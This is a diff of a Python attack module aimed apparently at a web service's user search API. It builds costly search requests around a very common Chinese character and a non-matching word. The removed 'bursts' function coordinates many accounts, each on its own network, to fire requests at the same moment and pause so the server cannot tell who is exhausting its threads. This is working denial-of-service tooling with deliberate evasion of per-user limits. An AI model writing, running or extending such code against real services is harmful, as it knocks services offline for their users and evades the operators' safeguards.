@@ -1,7 +1,7 @@
 # Attacks on searches and questions with a letter with which very many words begin, and the entries that they need.
-import random, threading
+import random
 from urllib.parse import quote
-from wire import Client
+from bursts import bursts
 
 # The words of a text in Chinese are its pairs of letters. With this letter between all others, half of the pairs begin with it.
 HAN, OTHERS = "一", [chr(number) for number in range(0x4E01, 0x9FA0)]
@@ -34,31 +34,6 @@ def search(letter):
     """A search for the letter and a word that is nowhere, so that nothing is found or ranked."""
     path = lambda person: f"/api/users/user/{person['id']}/search?limit=100&q=" + quote("zzqq " + letter)
     return lambda client, person: client.request("GET", path(person), person["token"])[0]
-
-
-def bursts(attack, requests):
-    """All accounts send a request at the same moment, each from a network of its own. When all have their responses, they pause for 0.12 s,
-    so that the server no longer knows who has used its threads, and send the next of the requests."""
-    barrier = threading.Barrier(len(attack.accounts))
-
-    def work(number):
-        client, turn = Client(attack.stage, attack.sources[number]), 0
-        while not attack.is_over:
-            barrier.wait()
-            try:
-                status = requests[turn % len(requests)](client, attack.accounts[number])
-            except OSError as error:
-                status = type(error).__name__
-            attack.count(str(status))
-            turn += 1
-            barrier.wait()
-            attack.wait(0.12)
-
-    for number in range(len(attack.accounts)):
-        threading.Thread(target=work, args=(number,), daemon=True).start()
-    attack.wait(0.2)
-    attack.ready()
-    attack.over.wait()
 
 
 def prefixes(attack):
